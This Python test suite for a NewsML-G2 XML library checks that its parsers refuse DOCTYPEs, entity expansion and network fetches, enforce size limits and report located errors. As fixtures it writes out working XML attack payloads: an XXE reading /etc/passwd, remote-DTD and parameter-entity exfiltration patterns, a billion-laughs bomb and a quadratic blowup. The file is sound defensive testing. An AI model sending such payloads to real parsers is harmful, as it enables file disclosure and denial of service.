"""Safe XML everywhere: no DTDs, no entity expansion, no network, bounded size, located errors."""

from __future__ import annotations

import contextlib
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from newsmodel import _xml
from newsmodel.exceptions import NewsModelError, ParseError, XMLSecurityError
from newsmodel.newsml import iter_newsml, parse_newsml, validate_newsml
from newsmodel.newsml._rules import load_schema

ITEM = (
    '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x" standard="NewsML-G2" '
    'standardversion="2.35"><itemMeta><itemClass qcode="ninat:text"/><provider literal="A"/>'
    "<versionCreated>2025-07-04T09:00:00Z</versionCreated></itemMeta>"
    "<contentMeta><headline>{headline}</headline></contentMeta></newsItem>"
)

#: External entity (XXE): would read a local file into the headline.
XXE = ('<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + ITEM).format(
    headline="&x;"
)
#: External DTD fetched over the network.
REMOTE_DTD = ('<!DOCTYPE newsItem SYSTEM "http://example.invalid/evil.dtd">' + ITEM).format(headline="x")
#: Parameter-entity XXE (out-of-band exfiltration pattern).
PARAMETER = ('<!DOCTYPE newsItem [<!ENTITY % p SYSTEM "http://example.invalid/p.dtd"> %p;]>' + ITEM).format(
    headline="x"
)
#: Billion laughs: ten levels of ten-fold expansion.
LAUGHS = (
    "<!DOCTYPE newsItem ["
    '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>" + ITEM
).format(headline="&l9;")
#: Quadratic blowup: one large entity referenced many times.
QUADRATIC = ('<!DOCTYPE newsItem [<!ENTITY big "' + "x" * 50_000 + '">]>' + ITEM).format(headline="&big;" * 5_000)
PAYLOADS = {"xxe": XXE, "remote-dtd": REMOTE_DTD, "parameter-entity": PARAMETER, "billion-laughs": LAUGHS}


def _as_sources(text: str, tmp_path: Path) -> dict[str, _xml.XMLSource]:
    path = tmp_path / "payload.xml"
    path.write_text(text, encoding="utf-8")
    return {
        "bytes": text.encode(),
        "str": text,
        "path": path,
        "str-path": str(path),
        "file": io.BytesIO(text.encode()),
        "utf-16": text.encode("utf-16"),
    }


READERS: dict[str, Callable[[_xml.XMLSource], object]] = {
    "parse_newsml": parse_newsml,
    "iter_newsml": lambda source: list(iter_newsml(source)),
    "parse_source": _xml.parse_source,
}


class TestRefusals:
    @pytest.mark.parametrize("payload", sorted(PAYLOADS))
    @pytest.mark.parametrize("reader", sorted(READERS))
    def test_doctype_payloads_are_refused(self, payload: str, reader: str, tmp_path: Path) -> None:
        """Every reader refuses a DOCTYPE payload from every kind of source with XMLSecurityError."""
        for kind, source in _as_sources(PAYLOADS[payload], tmp_path).items():
            with pytest.raises(XMLSecurityError, match="DOCTYPE"):
                READERS[reader](source)
            assert kind  # the loop covered this kind of source

    def test_quadratic_blowup_is_refused_without_expanding(self) -> None:
        """A quadratic-blowup payload is refused before any entity is expanded."""
        with pytest.raises(XMLSecurityError):
            parse_newsml(QUADRATIC)

    def test_validate_reports_unsafe_input(self) -> None:
        """validate_newsml reports a refused payload as one located error instead of raising."""
        report = validate_newsml(XXE)
        assert not report.ok
        assert [issue.code for issue in report.issues] == ["newsml.unsafe"]
        assert report.issues[0].line == 1

    def test_entities_are_never_expanded_even_past_the_prolog_check(self) -> None:
        """The parser itself never resolves entities or loads DTDs (defence in depth)."""
        root = etree.fromstring(XXE.encode(), _xml.safe_parser())
        assert "root:" not in etree.tostring(root).decode()

    def test_prolog_with_comments_and_pi_still_finds_doctype(self) -> None:
        """A DOCTYPE hidden behind comments and processing instructions is still found."""
        with pytest.raises(XMLSecurityError) as caught:
            _xml.check_prolog(b'<?xml version="1.0"?>\n<!-- c -->\n<?pi x?>\n<!DOCTYPE a []><a/>', "f.xml")
        assert (caught.value.source, caught.value.line, caught.value.column) == ("f.xml", 4, 1)


class TestBounds:
    def test_in_memory_size_is_bounded(self) -> None:
        """Documents larger than max_bytes are refused."""
        with pytest.raises(XMLSecurityError, match="larger than"):
            _xml.parse_bytes(b"<a>" + b"x" * 100 + b"</a>", max_bytes=50)

    def test_stream_size_is_bounded(self) -> None:
        """Streams longer than max_bytes are refused while streaming."""
        data = b"<a>" + b"<b>x</b>" * 20_000 + b"</a>"
        with pytest.raises(XMLSecurityError, match="larger than"):
            list(_xml.iterparse(io.BytesIO(data), max_bytes=10_000))

    def test_deep_nesting_is_an_error_not_a_crash(self) -> None:
        """Pathologically deep nesting gives a ParseError (libxml2's depth limit)."""
        with pytest.raises(ParseError):
            _xml.parse_bytes(b"<a>" * 100_000 + b"</a>" * 100_000)

    def test_schema_imports_are_never_fetched(self, tmp_path: Path) -> None:
        """A schema importing a remote schema is refused, never fetched."""
        xsd = tmp_path / "remote.xsd"
        xsd.write_text(
            '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
            '<xs:import namespace="urn:x" schemaLocation="http://example.invalid/x.xsd"/></xs:schema>'
        )
        with pytest.raises(NewsModelError):
            load_schema(str(xsd))


class TestErrors:
    def test_syntax_error_names_source_line_and_column(self, tmp_path: Path) -> None:
        """A well-formedness error carries the file, line and column."""
        path = tmp_path / "broken.xml"
        path.write_bytes(b"<newsItem>\n  <headline>x</title>\n</newsItem>")
        with pytest.raises(ParseError) as caught:
            parse_newsml(path)
        assert caught.value.source == str(path)
        assert caught.value.line == 2
        assert caught.value.column is not None

    @pytest.mark.parametrize("source", [b"", "   ", b"\xef\xbb\xbf"])
    def test_empty_input(self, source: bytes | str) -> None:
        """Empty input is a ParseError."""
        with pytest.raises(ParseError, match=r"empty|path|file|read"):
            parse_newsml(source)

    def test_missing_path(self) -> None:
        """A path that does not exist is a ParseError naming it."""
        with pytest.raises(ParseError, match="cannot read") as caught:
            parse_newsml("no/such/file.xml")
        assert caught.value.source == "no/such/file.xml"

    def test_text_mode_file_is_refused(self, tmp_path: Path) -> None:
        """A file opened in text mode is a ParseError, not a crash."""
        path = tmp_path / "a.xml"
        path.write_text("<a/>")
        with path.open(encoding="utf-8") as handle, pytest.raises(ParseError, match="binary"):
            parse_newsml(handle)  # type: ignore[arg-type]

    @given(st.binary(max_size=300))
    def test_any_bytes_give_an_element_or_a_parse_error(self, data: bytes) -> None:
        """parse_bytes returns an element or raises ParseError for any bytes."""
        with contextlib.suppress(ParseError):
            _xml.parse_bytes(data)
